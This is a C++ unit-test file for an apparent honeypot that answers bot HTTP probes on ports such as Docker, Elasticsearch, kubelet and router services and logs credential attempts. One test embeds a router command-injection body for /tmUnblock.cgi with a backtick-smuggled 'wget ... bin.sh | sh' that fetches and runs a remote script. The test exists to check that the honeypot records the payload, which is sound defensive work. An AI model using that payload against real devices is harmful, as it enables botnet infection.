// HTTP requests as bots send them.
#include <doctest/doctest.h>

#include "base/base64.hpp"
#include "observe/respond/test_talk.hpp"

namespace hinomi::observe {
namespace {

TEST_CASE("Respond http_answers_by_port_and_path") {
  struct Row {
    std::uint16_t port;
    const char* request;
    const char* status;
    const char* within;
  };
  const Row rows[] = {
      {80, "GET / HTTP/1.1\r\n\r\n", "200 OK", "It works"},
      {80, "GET /none HTTP/1.1\r\n\r\n", "404 Not Found", "404"},
      {9200, "GET /_cluster/health HTTP/1.1\r\n\r\n", "200 OK", "\"status\":\"green\""},
      {2375, "GET /version HTTP/1.1\r\n\r\n", "200 OK", "ApiVersion"},
      {2375, "POST /containers/create HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}", "201 Created", "\"Id\""},
      {6443, "GET /api/v1/secrets HTTP/1.1\r\n\r\n", "403 Forbidden", "Forbidden"},
      {10250, "GET /pods HTTP/1.1\r\n\r\n", "200 OK", "PodList"},
      {631, "POST /ipp HTTP/1.1\r\nContent-Length: 1\r\n\r\n\x01", "200 OK", "application/ipp"},
      {7547, "POST /UD/act?1 HTTP/1.1\r\nContent-Length: 1\r\n\r\nx", "401 Unauthorized", "WWW-Authenticate"},
      {52869, "POST /picdesc.xml HTTP/1.1\r\nContent-Length: 1\r\n\r\nx", "200 OK", "Envelope"},
  };
  for (const Row& row : rows) {
    CAPTURE(row.request);
    const Spoken spoken = speak(SessionProtocol::http, {row.request}, row.port);
    CHECK(spoken.answered.starts_with(std::string("HTTP/1.1 ") + row.status + "\r\n"));
    CHECK(spoken.answered.find(row.within) != std::string::npos);
    CHECK(spoken.session.commands.size() == 1);
  }
}

TEST_CASE("Respond http_names_what_an_exploit_would_fetch") {
  const std::string body = "ttcp_ip=-h `cd /tmp; wget http://198.51.100.9/bin.sh -O- | sh`&x=1";
  const Spoken spoken =
      speak(SessionProtocol::http, {"POST /tmUnblock.cgi HTTP/1.1\r\nUser-Agent: bot/1\r\nContent-Length: " +
                                    std::to_string(body.size()) + "\r\n\r\n" + body});
  CHECK(spoken.session.client_banner == "bot/1");
  CHECK(spoken.session.commands == std::vector<std::string>{"POST /tmUnblock.cgi"});
  CHECK(spoken.session.addresses_named == std::vector<std::string>{"http://198.51.100.9/bin.sh"});
  REQUIRE(spoken.session.payloads.size() == 1);
  CHECK(spoken.session.payloads[0].bytes == body.size());
  CHECK(spoken.session.payloads[0].digest == sha256(body));
  CHECK(spoken.session.payloads[0].first == body);
}

TEST_CASE("Respond http_records_a_basic_login_and_lets_in_by_the_rule") {
  for (const bool succeeds : {true, false}) {
    const std::string password = test_password("admin", succeeds);
    const Spoken spoken = speak(SessionProtocol::http, {"GET /admin HTTP/1.1\r\nAuthorization: Basic " +
                                                        write_base64("admin:" + password) + "\r\n\r\n"});
    CHECK(spoken.answered.starts_with(succeeds ? "HTTP/1.1 200 OK" : "HTTP/1.1 401 Unauthorized"));
    CHECK(spoken.session.credentials == std::vector<CredentialTry>{{"admin", password, succeeds}});
  }
}

TEST_CASE("Respond http_keeps_a_connection_and_ends_it_when_asked") {
  const std::string get = "GET / HTTP/1.1\r\n\r\n", last = "GET / HTTP/1.1\r\nConnection: close\r\n\r\n";
  const Spoken spoken = speak(SessionProtocol::http, {get + get + last + get});
  CHECK(spoken.session.commands.size() == 3);
  CHECK(spoken.session.end == SessionEnd::by_responder);
  CHECK(spoken.answered.find("Connection: close") != std::string::npos);
}

TEST_CASE("Respond http_refuses_what_is_no_request") {
  const Spoken spoken = speak(SessionProtocol::http, {"\x16\x03\x01 nonsense\r\n\r\n"});
  CHECK(spoken.session.end == SessionEnd::malformed);
  CHECK(spoken.session.payloads.size() == 1);
  CHECK(spoken.answered.starts_with("HTTP/1.1 400"));
}

TEST_CASE("Respond http_a_head_without_end_does_not_grow") {
  const Spoken spoken = speak(SessionProtocol::http, {"GET /" + std::string(100'000, 'a')});
  CHECK(spoken.session.end == SessionEnd::malformed);
  CHECK(spoken.session.bytes_in == limits::input_bytes);
}

}  // namespace
}  // namespace hinomi::observe
